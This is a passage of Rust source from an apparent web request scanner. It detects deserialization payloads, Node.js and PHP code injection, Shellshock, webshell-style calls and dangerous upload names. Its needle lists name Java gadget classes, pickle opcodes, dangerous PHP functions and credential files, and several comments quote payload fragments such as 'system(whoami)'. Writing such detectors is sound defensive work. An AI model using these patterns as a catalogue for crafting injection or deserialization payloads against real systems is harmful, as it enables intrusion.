            || !matches!(s[p - 1], b'O' | b'C' | b'a')
            || (p >= 2 && s[p - 2].is_ascii_alphanumeric())
        {
            continue;
        }
        let digits = s[p + 1..].iter().take_while(|b| b.is_ascii_digit()).count();
        if digits == 0 || s.get(p + 1 + digits) != Some(&b':') {
            continue;
        }
        let rest_start = p + 2 + digits;
        let mut rest_end = (rest_start + 256).min(text.len());
        while !text.is_char_boundary(rest_end) {
            rest_end -= 1;
        }
        let rest = &text[rest_start..rest_end];
        if s[p - 1] == b'a' {
            if rest.starts_with('{')
                && (crate::text::contains(rest, "s:") || crate::text::contains(rest, "i:"))
                && rest.contains(';')
            {
                return Some(p - 1);
            }
        } else if let Some(name) = rest.strip_prefix('"') {
            let name_len = name
                .bytes()
                .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'\\')
                .count();
            if name_len > 0 && name[name_len..].starts_with("\":") {
                return Some(p - 1);
            }
        }
    }
    None
}

/// Every literal [`deserialization`] needs, in the lower-cased value (a
/// non-ASCII byte is `x` there, so `AC ED 00 05` is `xxxx\0\x05`).
pub(crate) const DESER_ANCHORS: &[&[&str]] = &[
    &[
        "ro0ab",
        "kztaau",
        "cs7qaf",
        "aced0005",
        "xxxx\u{0}\u{5}",
        "o:",
        "c:",
        "a:",
        "aaeaaad/////",
        "system.windows.data.objectdataprovider",
        "system.diagnostics.process, system",
        "$type",
        "version=",
        "gasv",
        "gajj",
        "ganj",
    ],
    DESER_PYTHON_NEEDLES,
    DESER_TAG_NEEDLES,
];

const DESER_PYTHON_NEEDLES: &[&str] = &[
    "cos\nsystem",
    "cposix\nsystem",
    "c__builtin__\n",
    "cbuiltins\n",
    "csubprocess\n",
    "!!python/object",
    "!!python/name",
    "!!python/module",
];

const DESER_TAG_NEEDLES: &[&str] = &[
    "!!javax.script",
    "!!java.",
    "!!com.sun",
    "!!org.",
    "!ruby/object",
    "!ruby/hash",
    "!!ruby/",
];

/// The Java serialization stream header (`AC ED 00 05`) in base64, at each
/// of the three alignments a 3-byte group can give it (case matters: these
/// are base64 digits).
pub(crate) const JAVA_STREAM_BASE64: [&str; 3] = ["rO0AB", "KztAAU", "Cs7QAF"];

pub(crate) fn deserialization(text: &str, lower: &str, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
    if let Some(p) = JAVA_STREAM_BASE64
        .iter()
        .find_map(|magic| crate::text::find(text, magic))
        .or_else(|| crate::text::find(lower, "aced0005"))
        .or_else(|| crate::text::find(text, "\u{AC}\u{ED}\u{0}\u{5}"))
    {
        sink.report(&rules::DESER_JAVA, text, p..(p + 16).min(text.len()));
    }
    if let Some(p) = php_serialized(text) {
        sink.report(&rules::DESER_PHP, text, p..(p + 32).min(text.len()));
    }
    if let Some(p) = crate::text::find(text, "AAEAAAD/////")
        .or_else(|| crate::text::find(lower, "system.windows.data.objectdataprovider"))
        .or_else(|| crate::text::find(lower, "system.diagnostics.process, system"))
    {
        sink.report(&rules::DESER_DOTNET, text, p..(p + 24).min(text.len()));
    }
    if (crate::text::contains(lower, "\"$type\"")
        || matches!(kind, ValueKind::JsonKey { .. }) && lower == "$type")
        && (crate::text::contains(lower, ", mscorlib")
            || crate::text::contains(lower, ", system")
            || crate::text::contains(lower, "system."))
    {
        sink.report(&rules::DESER_DOTNET, text, 0..text.len().min(48));
    }
    if matches!(kind, ValueKind::JsonValue)
        && (crate::text::contains(lower, ", mscorlib")
            || crate::text::contains(lower, ", system.")
            || crate::text::contains(lower, "system.windows.")
            || crate::text::contains(lower, "system.diagnostics."))
        && crate::text::contains(lower, "version=")
    {
        sink.report(&rules::DESER_DOTNET, text, 0..text.len().min(48));
    }
    static NEEDLES_1: crate::text::NeedleSet = crate::text::NeedleSet::new(DESER_PYTHON_NEEDLES);
    if let Some((p, needle)) = NEEDLES_1.find_iter(lower).next() {
        sink.report(
            &rules::DESER_PYTHON,
            text,
            p..(p + needle.len()).min(text.len()),
        );
    }
    if text.starts_with("gASV") || text.starts_with("gAJj") || text.starts_with("gANj") {
        sink.report(&rules::DESER_PYTHON, text, 0..8.min(text.len()));
    }
    static NEEDLES_2: crate::text::NeedleSet = crate::text::NeedleSet::new(DESER_TAG_NEEDLES);
    if let Some((p, _)) = NEEDLES_2.find_iter(lower).next() {
        sink.report(&rules::JAVA_GADGET, text, p..(p + 24).min(text.len()));
    }
}

// ── Node.js ─────────────────────────────────────────────────────────────

/// What the Node.js check looks for; see [`nodejs`]. Also the dispatcher's
/// SERVER_SCRIPT gate: a value holding none of them skips [`nodejs`].
pub(crate) const NODE_NEEDLES: &[&str] = &[
    "_$$nd_func$$_",
    "__js_function",
    "child_process",
    "process.env",
    "process.mainmodule",
    "process.binding(",
    "process.kill(",
    "process.exit(",
    "process[",
    "module.exports",
    "require(",
    "require[",
    "new function(",
    "new function (",
    "function() {",
    "function(){",
    "constructor.constructor",
    "console.info(",
    "console.log(",
    "console.info.",
    "global.process",
    "this.constructor",
    "fs.readfilesync(",
    "execsync(",
    "spawnsync(",
    // Ruby's `Process.spawn("id")`.
    "process.spawn(",
    "globalthis.",
    "import(",
];

/// Server-side JavaScript: Node's process and module objects, function
/// constructors and the node-serialize function marker.
///
/// Every report is at a match of the search below, and the search matches
/// only where one of [`NODE_NEEDLES`] occurs: the dispatcher calls this only
/// for a value whose SERVER_SCRIPT gate (which holds them all) is set.
pub(crate) fn nodejs(lower: &str, sink: &mut Sink<'_>) {
    static NEEDLES_3: crate::text::NeedleSet = crate::text::NeedleSet::new(NODE_NEEDLES);
    for (p, needle) in NEEDLES_3.find_iter(lower) {
        {
            // `require(` and `import(` need a module name argument.
            // A name ending in one (`myfunction(){`, `xrequire(`) is another identifier.
            let glued = needle.as_bytes()[0].is_ascii_alphabetic()
                && p > 0
                && matches!(lower.as_bytes()[p - 1], b'a'..=b'z' | b'0'..=b'9' | b'_' | b'$');
            if glued {
                continue;
            }
            if matches!(needle, "require(" | "import(")
                && !lower[p + needle.len()..]
                    .trim_start()
                    .starts_with(['\'', '"', '`'])
            {
                continue;
            }
            sink.report(
                &rules::RCE_NODEJS,
                lower,
                p..(p + needle.len() + 16).min(lower.len()),
            );
            return;
        }
    }
}

// ── Shellshock ──────────────────────────────────────────────────────────

pub(crate) fn shellshock(lower: &str, sink: &mut Sink<'_>) {
    let t = lower.trim_start_matches([' ', '\'', '"']);
    if let Some(rest) = t.strip_prefix("()") {
        let rest = rest.trim_start();
        if rest.starts_with('{') {
            sink.report(&rules::SHELLSHOCK, lower, 0..lower.len().min(32));
        }
    }
}

// ── PHP ─────────────────────────────────────────────────────────────────

/// Functions reported when called with code around them (and [`PHP_DL`]).
/// Also literals of the dispatcher's CALLEE gate.
pub(crate) const PHP_STRONG: &[&str] = &[
    "phpinfo",
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "str_rot13",
    "file_get_contents",
    "file_put_contents",
    "move_uploaded_file",
    "show_source",
    "highlight_file",
    "parse_ini_file",
    "posix_getpwuid",
    "posix_uname",
    "posix_getuid",
    "posix_setuid",
    "fsockopen",
    "pfsockopen",
    "stream_socket_client",
    "curl_exec",
    "curl_init",
    "bzdecompress",
    "zlib_decode",
    "apache_setenv",
    "preg_replace",
    "var_dump",
    "print_r",
    "hex2bin",
    "convert_uuencode",
    "scandir",
    "opendir",
    "readdir",
    "tempnam",
    "include_once",
    "require_once",
    "ini_set",
    "ini_get",
    "set_time_limit",
    "get_current_user",
    "getmypid",
    "php_uname",
    "phpversion",
    "error_reporting",
    "array_map",
    "array_filter",
    "usort",
    "uasort",
    "register_shutdown_function",
    "register_tick_function",
    "ob_start",
    "assert_options",
    "escapeshellcmd",
    "escapeshellarg",
    "fpassthru",
    "readlink",
    "is_writable",
    "file_exists",
    "fileperms",
    "chmod",
    "chown",
    "disk_free_space",
    "getenv",
    "gethostbyname",
    "ftp_connect",
    "mysql_query",
    "mysqli_query",
    "pg_query",
    "sqlite_query",
    "socket_create",
    "stream_get_contents",
    "get_defined_vars",
    "get_defined_functions",
    "extract",
    "parse_str",
    "putenv",
    "proc_nice",
];

/// `dl` (loads an extension), strong like [`PHP_STRONG`] but kept apart:
/// two letters inside many words (`handle`, `friendly`), so the gate looks
/// for it with what may follow it before its `(` ([`PHP_CALL_LITERALS`]).
const PHP_DL: &str = "dl";

/// Weak names (words or common helpers too) that [`php_calls`] reports
/// when called with code around them; with [`PHP_WEAK_NEEDS_MORE`], the
/// weak list ([`is_php_weak`]).
pub(crate) const PHP_WEAK_REPORTED: &[&str] = &[
    "system",
    "exec",
    "eval",
    "assert",
    "include",
    "require",
    "popen",
    "readfile",
    "fopen",
    "fwrite",
    "fputs",
    "unserialize",
    "symlink",
    "unlink",
];

/// With [`PHP_STRONG`] and [`PHP_WEAK_REPORTED`], literals of which every
/// report of [`php_calls`] holds one: `posix_` and [`PHP_DL`] followed by
/// what may stand between a name and its `(` (a blank, or a comment's `/`
/// or `#`). A unit test checks the lists agree. With the JavaScript sink
/// names they are the dispatcher's CALLEE gate.
pub(crate) const PHP_CALL_LITERALS: &[&str] = &[
    "posix_", "dl(", "dl ", "dl\t", "dl\n", "dl\x0c", "dl\r", "dl/", "dl#",
];

/// Weak names that [`php_calls`] does not report on their own
/// (prose and formatting functions: `print(`, `file(s)`, `mail(`).
const PHP_WEAK_NEEDS_MORE: &[&str] = &[
    "print",
    "echo",
    "file",
    "md5",
    "chr",
    "ord",
    "substr",
    "sprintf",
    "printf",
    "sleep",
    "usleep",
    "header",
    "die",
    "exit",
    "link",
    "touch",
    "copy",
    "mkdir",
    "shuffle",
    "crypt",
    "implode",
    "str_replace",
    "strrev",
    "serialize",
    "glob",
    "rename",
    "mail",
    "rmdir",
    "chgrp",
];

/// Whether some `(` follows, past blanks, a `)`, `]`, `}`, a quote or a
/// `/`: every call [`php_dynamic_call`], [`super::php_code::quoted_function_call`]
/// and [`super::php_code::hidden_call`] report is at such a `(` (the first
/// two need one of the first five right before it, the last starts only
/// from its `candidate`, this very test).
fn call_after_expression(s: &[u8]) -> bool {
    memchr::memchr_iter(b'(', s).any(|p| {
        s[..p]
            .iter()
            .rposition(|b| !matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
            .is_some_and(|q| matches!(s[q], b')' | b']' | b'}' | b'\'' | b'"' | b'/'))
    })
}

/// Bracketed PHP tags (BBCode and Smarty blocks) and XML declarations
/// PHP's short tags read as code; [`php`] reports the first found.
const PHP_TAGS: [&str; 7] = [
    "[php]", "[/php]", "{php}", "{/php}", "[\\php]", "<?xml :", "<?xml:",
];

/// Superglobals and input streams; [`php`] reports the first found.
const PHP_VARIABLES: [&str; 17] = [
    "$_get",
    "$_post",
    "$_request",
    "$_server",
    "$_cookie",
    "$_files",
    "$_env",
    "$_session",
    "$globals",
    "$http_raw_post_data",
    "$http_get_vars",
    "$http_post_vars",
    "$http_server_vars",
    "$http_cookie_vars",
    "php://input",
    "php://stdin",
    "php://fd",
];

/// PHP code in a value whose byte classes are `flags`. `call_named` is
/// false only when `lower` holds none of [`PHP_STRONG`] and
/// [`PHP_CALL_LITERALS`] (then [`php_calls`] cannot report). (Each flag
/// tested below is set by the byte then looked for, and for a bracket by
/// its closing partner too: a missing flag means a missing byte.)
pub(crate) fn php(
    text: &str,
    lower: &str,
    kind: ValueKind<'_>,
    flags: CharFlags,
    call_named: bool,
    sink: &mut Sink<'_>,
) {
    let bracket = flags.any(CharFlags::BRACKET | CharFlags::BRACE | CharFlags::ANGLE)
        && memchr::memchr3(b'[', b'{', b'<', lower.as_bytes()).is_some();
    if bracket
        && let Some(p) = PHP_TAGS
            .iter()
            .find_map(|tag| crate::text::find(lower, tag))
    {
        sink.report(&rules::PHP_OPEN_TAG, text, p..(p + 16).min(text.len()));
    }
    // `<?` holds a `<`, which `bracket` looks for: without one, nothing to search.
    let tag_haystack = if bracket { lower } else { "" };
    for (p, _) in crate::text::find_iter(tag_haystack, "<?") {
        let rest = &lower[p + 2..];
        // Code must follow the tag: `<?php` alone, or `<? should` in prose, is not PHP.
        let after_php = rest.trim_start_matches(['\t', ' ']).strip_prefix("php");
        let code_follows = |code: &str| {
            let window = &code[..code.len().min(64)];
            let first = window
                .trim_start_matches([' ', '\t', '\r', '\n'])
                .split([' ', '\t', '(', '"', '\''])
                .next()
                .unwrap_or("");
            window.contains(';')
                || window.contains('(')
                || window.contains('$')
                || window.contains("?>")
                || matches!(
                    first,
                    "echo"
                        | "print"
                        | "eval"
                        | "system"
                        | "include"
                        | "require"
                        | "exec"
                        | "die"
                        | "exit"
                        | "phpinfo"
                        | "passthru"
                        | "assert"
                )
        };
        if after_php.is_some_and(|c| !c.is_empty() && code_follows(c))
            || rest.starts_with('=')
            || (rest.starts_with(['\t', '\r', '\n']) && code_follows(rest))
            || (rest.starts_with(' ')
                && rest
                    .trim_start()
                    .starts_with(|c: char| c == '$' || c.is_ascii_alphabetic())
                && !rest.trim_start().starts_with("xml")
                && !rest.trim_start().starts_with("xpacket")
                && code_follows(rest))
        {
            sink.report(&rules::PHP_OPEN_TAG, text, p..(p + 16).min(text.len()));
            break;
        }
    }
    let variable = flags.contains(CharFlags::DOLLAR)
        || (flags.contains(CharFlags::COLON) && crate::text::contains(lower, "php:"));
    if variable
        && let Some((p, var)) = PHP_VARIABLES
            .iter()
            .find_map(|var| crate::text::find(lower, var).map(|p| (p, var)))
    {
        sink.report(&rules::PHP_VARIABLE, text, p..p + var.len());
    }
    if flags.contains(CharFlags::PAREN) && memchr::memchr(b'(', lower.as_bytes()).is_some() {
        if call_named {
            php_calls(lower, sink);
        }
        if let Some(p) = super::php_code::extension_call(lower) {
            sink.report(&rules::PHP_FUNCTION, text, p..(p + 32).min(text.len()));
        }
        let after_expression = || call_after_expression(lower.as_bytes());
        if let Some(p) = php_variable_call(lower).or_else(|| {
            after_expression()
                .then(|| {
                    php_dynamic_call(lower)
                        .or_else(|| super::php_code::quoted_function_call(lower))
                        .or_else(|| super::php_code::hidden_call(lower))
                })
                .flatten()
        }) {
            sink.report(&rules::PHP_VARIABLE_CALL, text, p..(p + 32).min(text.len()));
        }
    }
    // (`bracket` looks for `{` among others.)
    if bracket
        && flags.contains(CharFlags::BRACE)
        && memchr::memchr(b'{', lower.as_bytes()).is_some()
        && let Some(p) = super::php_code::variable_variable(lower)
    {
        sink.report(
            &rules::PHP_VARIABLE_VARIABLE,
            text,
            p..(p + 32).min(text.len()),
        );
    }
    if bracket && let Some(p) = super::php_code::xml_short_tag(lower) {
        sink.report(&rules::PHP_OPEN_TAG, text, p..(p + 16).min(text.len()));
    }
    let file_name = match kind {
        ValueKind::MultipartFilename => Some(lower),
        ValueKind::HeaderValue {
            name:
                "x-filename" | "x.filename" | "x-file-name" | "x_filename" | "x-file"
                | "x-upload-filename",
        } => Some(lower),
        ValueKind::HeaderValue {
            name: "content-disposition",
        } => lower.split("filename=").nth(1),
        _ => None,
    };
    if let Some(name) = file_name {
        // An upload name is a name, not a path: a `..` component in it
        // writes outside the upload directory (`..\\1.7z`, `../../x`).
        if name
            .split(['/', '\\'])
            .rev()
            .skip(1)
            .any(|part| part.trim() == "..")
        {
            sink.report(&rules::PATH_TRAVERSAL, text, 0..text.len().min(64));
        }
        let cleaned: String = name
            .chars()
            .filter(|c| !c.is_whitespace() && *c != '"' && *c != '\'')
            .collect();
        let cleaned = cleaned.trim_end_matches(['.', ':', ';', '/', '\\']);
        let ext = cleaned.rsplit('.').next().unwrap_or("");
        let script = matches!(
            ext,
            "php"
                | "php3"
                | "php4"
                | "php5"
                | "php6"
                | "php7"
                | "php8"
                | "phtml"
                | "pht"
                | "phar"
                | "phps"
                | "pgif"
                | "phpt"
                | "inc"
                | "jsp"
                | "jspx"
                | "jsw"
                | "jsv"
                | "jspf"
                | "asp"
                | "aspx"
                | "ashx"
                | "asmx"
                | "asa"
                | "cer"
                | "cfm"
                | "cfml"
                | "cgi"
                | "shtml"
                | "htaccess"
                | "config"
                | "war"
        ) && cleaned.contains('.')
            || ext
                .strip_prefix("php")
                .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()));
        let inner_php = crate::text::contains(cleaned, ".php.")
            || crate::text::contains(cleaned, ".php%00")
            || crate::text::contains(cleaned, ".php;");
        if script
            || inner_php
            || cleaned.ends_with(".htaccess")
            || cleaned == "htaccess"
            || super::php_code::session_file(cleaned)
        {
            sink.report(&rules::PHP_UPLOAD, text, 0..text.len().min(64));
        }
        if restricted_upload_name(cleaned) {
            sink.report(
                &rules::PATH_RESTRICTED_EXTENSION,
                text,
                0..text.len().min(64),
            );
        }
    }
}

/// An upload named for a file the server or a tool reads its settings or
/// credentials from: a copy of WordPress's `wp-config` in any spelling
/// (`wp-config-php.bak`, `wp-config_php.txt`), an `.htpasswd`, or a
/// credentials dotfile (`.boto`, `.env`, `.netrc`, `.pgpass`).
fn restricted_upload_name(name: &str) -> bool {
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let wp_config = base
        .strip_prefix("wp-config")
        .is_some_and(|rest| rest.is_empty() || rest.starts_with(['.', '-', '_', '~', '(']));
    wp_config
        || matches!(
            base,
            ".htpasswd"
                | ".htdigest"
                | ".boto"
                | ".env"
                | ".netrc"
                | ".pgpass"
                | ".git-credentials"
                | "authorized_keys"
        )
}

/// Skips blanks and PHP comments from `i`; returns where code resumes and
/// whether a line break or a comment was crossed.
fn php_gap(s: &[u8], mut i: usize) -> (usize, bool) {
    let mut crossed = false;
    let limit = (i + 256).min(s.len());
    while i < limit {
        match s[i] {
            b' ' | b'\t' => i += 1,
            b'\r' | b'\n' | 0x0b | 0x0c => {
                crossed = true;
                i += 1;
            }
            b'/' if s.get(i + 1) == Some(&b'*') => {
                crossed = true;
                match memchr::memmem::find(&s[i + 2..limit], b"*/") {
                    Some(e) => i += e + 4,
                    None => return (limit, crossed),
                }
            }
            b'/' if s.get(i + 1) == Some(&b'/') => {
                crossed = true;
                i = memchr::memchr(b'\n', &s[i..limit]).map_or(limit, |e| i + e + 1);
            }
            b'#' => {
                crossed = true;
                i = memchr::memchr(b'\n', &s[i..limit]).map_or(limit, |e| i + e + 1);
            }
            _ => break,
        }
    }
    (i, crossed)
}

/// Offset of the bracket closing `s[0]` (`open`), nested pairs skipped
/// (`[$_[1]]`).
fn matching_close(s: &[u8], open: u8, close: u8) -> Option<usize> {
    let mut depth = 0usize;
    for (i, &b) in s.iter().enumerate() {
        if b == open {
            depth += 1;
        } else if b == close {
            depth = depth.saturating_sub(1);
            if depth == 0 {
                return Some(i);
            }
        }
    }
    None
}

/// A call through a variable: `$f(1)`, `$$b(2)`, `${@a}(10)`,
/// `$__[@o](6)`, `$_aB_4c[5]['d'] /*x*/ (17)`, `Foo::$var()`, `$a //x\n()`:
/// PHP's way to call a function whose name is data (webshells, filter
/// evasion). Blanks before the `(` count only across a line break or a
/// comment, so "costs $x (approx.)" passes.
fn php_variable_call(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    for start in memchr::memchr_iter(b'$', s) {
        if start > 0 && s[start - 1] == b'$' {
            continue;
        }
        let mut i = start;
        while i < s.len() && (s[i] == b'$' || s[i] == b'@') {
            i += 1;
        }
        // The variable: a name (not a digit: `$5` is money) or `{ expr }`.
        if s.get(i) == Some(&b'{') {
            // `${}` is no expression.
            match memchr::memchr(b'}', &s[i..(i + 64).min(s.len())]) {
                Some(e) if e > 1 => i += e + 1,
                _ => continue,
            }
        } else {
            let name_start = i;
            while i < s.len() && (s[i].is_ascii_alphanumeric() || s[i] == b'_') {
                i += 1;
            }
            if i == name_start || s[name_start].is_ascii_digit() {
                continue;
            }
        }
        // Subscripts: `[...]` / `{...}`, possibly with comments between.
        let mut spaced = false;
        loop {
            let (j, crossed) = php_gap(s, i);
            match s.get(j) {
                Some(b'[') | Some(b'{') => {
                    let close = if s[j] == b'[' { b']' } else { b'}' };
                    match matching_close(&s[j..(j + 64).min(s.len())], s[j], close) {
                        // `$a[]()` / `$a{}()`: an empty subscript is no call.
                        Some(1) => break,
                        Some(e) => {
                            i = j + e + 1;
                            spaced |= crossed;
                        }
                        None => break,
                    }
                }
                Some(b'(') => {
                    let blank_only = j > i && !crossed;
                    if !blank_only || spaced {
                        return Some(start);
                    }
                    break;
                }
                _ => break,
            }
        }
    }
    None
}

/// A string or an expression called as a function: `('system')('id')`,
/// `"system"(ls)`, `(sy.(st).em)('uname')`, `[system][0](ls)` — when the
/// call's argument is a shell command.
pub(crate) fn php_dynamic_call(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    for (p, _) in crate::text::find_iter(lower, "(") {
        if p == 0 || !matches!(s[p - 1], b')' | b']' | b'}' | b'\'' | b'"') {
            continue;
        }
        let Some(inner_end) = memchr::memchr(b')', &s[p + 1..(p + 64).min(s.len())]) else {
            continue;
        };
        let raw_arg = lower[p + 1..p + 1 + inner_end].trim();
        let quoted_arg = raw_arg.starts_with(['\'', '"']);
        let arg = raw_arg.trim_matches(['\'', '"', '@', '`']).trim();
        let word = arg.split([' ', '\t']).next().unwrap_or("");
        if !word.is_empty() && super::rce::is_command_name(word) {
            // The callee: a quoted name, a subscripted or braced expression,
            // or a parenthesized one (`(x)('uname')`, `($f)('id')` when the
            // command is a string: PHP calls the constant's or variable's value).
            let before = &lower[..p];
            let callee_ok = before.ends_with(['\'', '"'])
                || before.ends_with([']', '}'])
                || before.rfind('(').is_some_and(|o| {
                    let callee = &before[o + 1..before.len() - 1];
                    callee.contains(['.', '\'', '"'])
                        || is_php_weak(callee)
                        || (quoted_arg
                            && !callee.is_empty()
                            && callee
                                .trim_start_matches('$')
                                .bytes()
                                .all(|b| b.is_ascii_alphanumeric() || b == b'_'))
                });
            if callee_ok {
                return Some(p.saturating_sub(16));
            }
        }
    }
    None
}

/// A name from the PHP function lists (the strong and the weak one).
pub(crate) fn is_php_function(name: &str) -> bool {
    PHP_STRONG.contains(&name) || name == PHP_DL || is_php_weak(name) || name.starts_with("posix_")
}

/// A name of the weak PHP list: reported with code around it, or needing more.
fn is_php_weak(name: &str) -> bool {
    PHP_WEAK_REPORTED.contains(&name) || PHP_WEAK_NEEDS_MORE.contains(&name)
}

/// Byte classes of the name scan in [`php_calls`], one table lookup per byte.
const PHP_NAME_START: u8 = 1;
const PHP_NAME: u8 = 2;
const PHP_VARIABLE_SIGIL: u8 = 4;
static PHP_NAME_CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if c.is_ascii_alphabetic() || c == b'_' {
            t[b] = PHP_NAME_START | PHP_NAME;
        } else if c.is_ascii_digit() {
            t[b] = PHP_NAME;
        }
        b += 1;
    }
    t[b'$' as usize] = PHP_VARIABLE_SIGIL;
    t
};

fn php_calls(lower: &str, sink: &mut Sink<'_>) {
    let class = |b: u8| PHP_NAME_CLASS[usize::from(b)];
    let s = lower.as_bytes();
    let mut i = 0;
    while i < s.len() {
        if class(s[i]) & PHP_NAME_START == 0
            || (i > 0 && class(s[i - 1]) & (PHP_NAME | PHP_VARIABLE_SIGIL) != 0)
        {
            i += 1;
            continue;
        }
        let mut end = i;
        while end < s.len() && class(s[end]) & PHP_NAME != 0 {
            end += 1;
        }
        let name = &lower[i..end];
        // Whitespace and comments may sit between a PHP function and its `(`.
        let mut k = end;
        loop {
            while k < s.len() && s[k].is_ascii_whitespace() {
                k += 1;
            }
            // (Every comment opens with `/` or `#`.)
            if !matches!(s.get(k), Some(b'/' | b'#')) {
                break;
            }
            // Bounded: a comment longer than this ends the look-ahead.
            let window = &lower[k..(k + 256).min(s.len())];
            if window.starts_with("/*") {
                match crate::text::find(window, "*/") {
                    Some(e) => k += e + 2,
                    None => break,
                }
                continue;
            }
            if window.starts_with('#') || window.starts_with("//") {
                match window.find('\n') {
                    Some(e) => k += e + 1,
                    None => break,
                }
                continue;
            }
            break;
        }
        if s.get(k) == Some(&b'(') {
            let arg = lower[k + 1..].trim_start();
            let code_arg = arg.starts_with(['$', '\'', '"', '`', ')', '@'])
                || arg.starts_with(|c: char| c.is_ascii_digit())
                || arg.starts_with("chr(")
                || arg.starts_with("base64_decode(")
                || arg.starts_with("str_rot13(")
                || arg.starts_with("gzinflate(");
            let before = s[..i]
                .iter()
                .rev()
                .find(|b| !b.is_ascii_whitespace())
                .copied();
            let code_before = before.is_none_or(|b| {
                matches!(
                    b,
                    b';' | b'@'
                        | b'('
                        | b'='
                        | b'.'
                        | b'\''
                        | b'"'
                        | b'|'
                        | b'{'
                        | b'>'
                        | b'&'
                        | b'?'
                        | b','
                        | b'!'
                )
            });
            // Every POSIX extension function reads or changes process
            // identity (`posix_getegid`, `posix_kill`, `posix_setuid`).
            let strong = PHP_STRONG.contains(&name) || name == PHP_DL || name.starts_with("posix_");
            if strong && (code_arg || code_before) {
                sink.report(&rules::PHP_FUNCTION, lower, i..(k + 12).min(s.len()));
                return;
            }
            // The whole value one call with a bare name argument
            // (`system(whoami)`, `unserialize(foo);`) is code too; with a
            // space before `(` it may be prose ("include (optional)").
            // A gap of more than one blank, a tab, a line break or a comment
            // (`exec  (blah)`, `exec //c\n (blah)`) is code formatting, not prose.
            let whole_call = before.is_none() && &s[end..k] != b" " && {
                let rest = lower[k + 1..].trim_start();
                let ident = rest
                    .bytes()
                    .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
                    .count();
                ident > 0 && matches!(rest[ident..].trim(), ")" | ");")
            };
            if PHP_WEAK_REPORTED.contains(&name) && (code_arg || whole_call) && code_before {
                sink.report(&rules::PHP_FUNCTION, lower, i..(k + 12).min(s.len()));
                return;
            }
        }
        i = end;
    }
}

// ── Java ────────────────────────────────────────────────────────────────

pub(crate) struct JavaMatchers {
    gadgets: AhoCorasick,
}

const JAVA_GADGETS: &[&str] = &[
    "java.lang.runtime",
    "java.lang.processbuilder",
    "java.lang.process",
    "java.lang.system",
    "java.lang.reflect",
    "java.lang.class",
    "java.lang.classloader",
    "java.lang.thread",
    "java.lang.object",
    "java.lang.string",
    "java.lang.integer",
    "java.lang.number",
    "java.lang.stringbuilder",
    "java.io.",
    "java.net.url",
    "java.net.socket",
    "java.net.urlclassloader",
    "java.nio.file",
    "java.beans.xmldecoder",
    "java.beans.xmldecode",
    "java.util.scanner",
    "java.rmi.",
    "javax.script",
    "javax.naming",
    "javax.management",
    "javax.el",
    "org.apache.commons.collections",
    "org.apache.commons.beanutils",
    "org.apache.commons.fileupload",
    "org.apache.commons.io",
    "org.apache.struts",
    "org.apache.xalan",
    "org.apache.xbean",
    "org.apache.myfaces",
    "org.apache.wicket",
    "org.apache.click",
    "org.apache.tomcat",
    "org.apache.catalina",
    "com.opensymphony.xwork2",
    "com.sun.org.apache",
    "com.sun.rowset",
    "com.sun.jndi",
    "com.mchange.v2.c3p0",
    "org.codehaus.groovy",
    "org.mozilla.javascript",
    "org.springframework.",
    "org.hibernate.",
    "org.jboss.",
    "org.omg.corba",
    "sun.misc.",
    "sun.reflect.",
    "bsh.interpreter",
    "bsh.xthis",
    "invokertransformer",
    "chainedtransformer",
    "constanttransformer",
    "instantiatetransformer",
    "clonetransformer",
    "forclosure",
    "whileclosure",
    "instantiatefactory",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "lazymap",
    "transformedmap",
    "templatesimpl",
    "annotationinvocationhandler",
    "badattributevalueexpexception",
    "beancomparator",
    "jdbcrowsetimpl",
    "methodclosure",
    "convertedclosure",
    "scriptenginemanager",
    "processbuilder",
    "getruntime",
    "runtime.getruntime",
    "objectinputstream",
    "objectoutputstream",
    "xmldecoder",
    "jndirefreference",
    "jsonrowsetimpl",
    "unicastref",
    "unicastremoteobject",
    "remoteobjectinvocationhandler",
    "defineclass",
    "java.util.priorityqueue",
    "java.util.hashset",
    "org.python.core",
];

impl JavaMatchers {
    pub(crate) fn new() -> Self {
        JavaMatchers {
            gadgets: crate::text::literal_matcher(JAVA_GADGETS),
        }
    }
}

/// Package roots whose classes exploits instantiate or call: a qualified
/// name under one of them (`java.io.File`, `org.apache.commons.x`,
/// `java.Runtime`) in a value is Java code, not data.
const JAVA_ROOTS: &[&str] = &[
    "java.",
    "javax.",
    "jdk.",
    "sun.",
    "com.sun.",
    "org.apache.",
    "org.springframework.",
    "com.opensymphony.",
    "org.codehaus.",
    "org.hibernate.",
    "org.jboss.",
    "org.mozilla.",
    "org.omg.",
    "ognl.",
    "bsh.",
    "groovy.",
    "freemarker.",
    "org.python.",
    "com.mchange.",
    "org.yaml.snakeyaml",
    "com.fasterxml.jackson",
    "com.alibaba.fastjson",
];

fn qualified_java_name(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    static ROOTS: crate::text::NeedleSet = crate::text::NeedleSet::new(JAVA_ROOTS);
    for (p, root) in ROOTS.find_iter(lower) {
        {
            if p > 0
                && (s[p - 1].is_ascii_alphanumeric()
                    || s[p - 1] == b'.'
                    || s[p - 1] == b'@'
                    || s[p - 1] == b'/')
            {
                continue;
            }
            let rest = &s[p + root.len()..];
            let seg = rest
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_' || **b == b'$')
                .count();
            // `java.` then a class or package name; roots that are ordinary
            // words (`java.` in prose) need a Java-like next segment.
            let next_is_name = seg >= 3 && (rest.get(seg) != Some(&b'@'));
            let runtime_word = [
                "runtime",
                "processbuilder",
                "lang",
                "io",
                "net",
                "util",
                "beans",
                "rmi",
                "nio",
                "naming",
                "script",
                "reflect",
            ]
            .iter()
            .any(|w| rest.starts_with(w.as_bytes()));
            if next_is_name && (runtime_word || root.len() > 5 || rest.get(seg) == Some(&b'.')) {
                return Some(p);
            }
        }
    }
    None
}

/// OGNL / Struts expression fragments.
